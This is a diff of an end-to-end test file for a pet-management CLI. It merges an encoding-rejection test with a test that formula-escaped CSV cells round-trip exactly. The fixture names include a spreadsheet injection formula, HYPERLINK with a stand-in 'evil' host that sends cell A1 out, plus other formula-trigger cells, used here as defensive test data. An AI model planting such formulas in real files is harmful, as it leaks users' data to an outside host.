@@ -66,8 +66,8 @@ describe.concurrent('pets add --file: what spreadsheets save', () => {
     expect(server.requests).toHaveLength(sent.length);
   });
 
-  it('refused at the first byte that is not its encoding, nothing sent, exit 6: windows-1252 read as UTF-8 (even with --skip-invalid), UTF-16 with a lone surrogate', async (t) => {
-    const { server, configDir, petctl } = await setupE2e(t, creator());
+  it("refused at the first byte that is not its encoding, nothing sent, exit 6: windows-1252 read as UTF-8 (even with --skip-invalid), UTF-16 with a lone surrogate; cells stay text: the ' that -o csv writes before =, +, -, @, a tab or a CR is dropped, so the names arrive exact; 'Tis stays", async (t) => {
+    const { server, configDir, petctl } = await setupE2e(t, creator({ list: { existing: [] } }));
     const cp1252 = await petctl(['pets', 'add', '--file', writeInput(configDir, 'cp.csv', CP1252), '--skip-invalid']);
     expect(cp1252.code).toBe(6);
     expectCleanError(cp1252);
@@ -76,11 +76,8 @@ describe.concurrent('pets add --file: what spreadsheets save', () => {
     expect(utf16.code).toBe(6);
     expect(utf16.stderr).toMatch(/^error: line 3 \(row 2\): not UTF-16LE: a broken character .*\(invalid_input\)\n$/);
     expect(server.requests).toHaveLength(0);
-  });
 
-  it("cells stay text: the ' that -o csv writes before =, +, -, @, a tab or a CR is dropped, so the names arrive exact; 'Tis stays", async (t) => {
     const names = ['=HYPERLINK("http://evil/?x="&A1,"click")', '-2+3', '+1', '@SUM(1+1)', "'Tis", "''=x"];
-    const { server, configDir, petctl } = await setupE2e(t, creator({ list: { existing: [] } }));
     // As -o csv writes them: RFC 4180 quoting, and a ' before a formula's first character.
     const written = names.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)).map((cell) => `"${cell.replaceAll('"', '""')}",1,`);
     const file = writeInput(configDir, 'round.csv', ['name,categoryId,status', ...written, ''].join('\r\n'));
